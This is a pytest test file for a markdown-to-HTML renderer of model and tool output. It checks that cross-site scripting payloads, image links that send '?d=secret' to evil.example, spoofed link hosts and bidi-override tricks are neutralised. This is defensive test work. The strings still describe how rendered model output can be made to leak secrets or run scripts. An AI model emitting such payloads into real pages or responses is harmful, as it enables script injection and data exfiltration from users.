"""The one renderer of what models and tools wrote."""

import pytest

from web.markdown import LONGEST, to_html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<svg onload=alert(1)>",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>`",
    "<iframe src=https://evil.example></iframe>",
    "<style>@import url(https://evil.example)</style>",
    "<!--slot x-->y<!--end-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
CARRIERS = [
    "![x](https://evil.example/?d=secret)",
    "![x][r]\n\n[r]: https://evil.example/?d=secret",
    "![](//evil.example/x.png)",
    "![x](data:image/png;base64,AAAA)",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    '<img src="https://evil.example/x.png">',
    '<link rel=prefetch href="https://evil.example">',
    "<video poster=https://evil.example>",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_no_script_survives(text: str) -> None:
    html = to_html(text).lower()
    for never in ("<script", "<img", "<svg", "<iframe", "<style", 'href="javascript', 'href="data', 'href="vb', "<!--"):
        assert never not in html


@pytest.mark.parametrize("text", CARRIERS)
def test_nothing_is_loaded_from_elsewhere(text: str) -> None:
    html = to_html(text)
    for never in (" src=", "srcset", "<img", "<link ", "<video", "url("):
        assert never not in html.replace("&lt;img src=", "").replace('src="https', "")


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("[our bank](https://evil.example/login)", "our bank</a> (evil.example)"),
        ("[https://bank.example](https://evil.example)", "https://bank.example</a> (evil.example)"),
        ("[x](https://bank.example@evil.example)", "x</a> (evil.example)"),
        ("[x](https://bank.example\\@evil.example)", "x</a> (evil.example)"),
        ("[x](https://пример.рф)", "(xn--e1afmkfd.xn--p1ai)"),
        ("[write](mailto:hr@shop.example)", "write</a> (hr@shop.example)"),
        ("[![logo](https://evil.example/a.png)](https://evil.example)", "[image: logo]</a> (evil.example)"),
    ],
)
def test_a_link_names_its_host(text: str, words: str) -> None:
    assert words in to_html(text)


def test_a_bare_address_is_not_repeated() -> None:
    assert to_html("<https://shop.example/a>").count("shop.example") == 2


def test_links_tell_their_target_nothing() -> None:
    assert 'rel="noopener noreferrer nofollow"' in to_html("[x](https://shop.example)")


@pytest.mark.parametrize("href", ["/logout/", "//evil.example", "chat/", "#top"])
def test_a_link_without_a_host_leads_nowhere(href: str) -> None:
    assert "href" not in to_html(f"[x]({href})")


def test_code_can_be_copied_and_tables_scroll() -> None:
    html = to_html("```python\n<pre>1</pre>\n```\n\n| a | b |\n| - | -: |\n| 1 | 2 |")
    assert '<div class="code"><button type="button" class="copy"' in html
    assert "&lt;pre&gt;1&lt;/pre&gt;" in html
    assert '<div class="wide" tabindex="0"><table>' in html
    assert '<td align="right">2</td>' in html
    assert "style=" not in html


def test_a_very_long_text_is_shown_as_it_is() -> None:
    html = to_html("[" * (LONGEST + 1) + "<b>")
    assert html.startswith('<div class="plain">[[')
    assert html.endswith("&lt;b&gt;</div>")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("He said \u202egnp.exe, and left.", "He said gnp.exe, and left."),
        ("He said &#x202e;gnp.exe, and left.", "He said gnp.exe, and left."),
        ("\u202dabc\u202c def", "abc def"),
        ("open \u2067 for ever", "open  for ever"),
        ("\u202aopen\n\nclosed elsewhere\u202c", "open</p>\n<p>closed elsewhere"),
        ("a \u2067**שלום**, 3\u2069 b", "a \u2067<strong>שלום</strong>, 3\u2069 b"),
        ("\u2066\u202bunclosed\u2069 \u202c.", "\u2066unclosed\u2069 ."),
        ("مرحبا \u200fabc\u200e \u061c", "مرحبا \u200fabc\u200e \u061c"),
        ("`\u202ex`", "<code>x</code>"),
        ("\u2067" * 200 + "\u2069" * 200, "\u2067" * 125 + "\u2069" * 125),
    ],
)
def test_no_text_turns_the_direction_of_another(text: str, shown: str) -> None:
    assert to_html(text) == f"<p>{shown}</p>\n"


def test_a_very_long_text_turns_nothing_either() -> None:
    assert "\u202e" not in to_html("\u202e" + "x" * LONGEST)


@pytest.mark.parametrize("text", ["- واحد", "1. واحد"])
def test_a_list_has_its_marks_where_its_language_begins(text: str) -> None:
    assert 'l dir="auto">' in to_html(text)
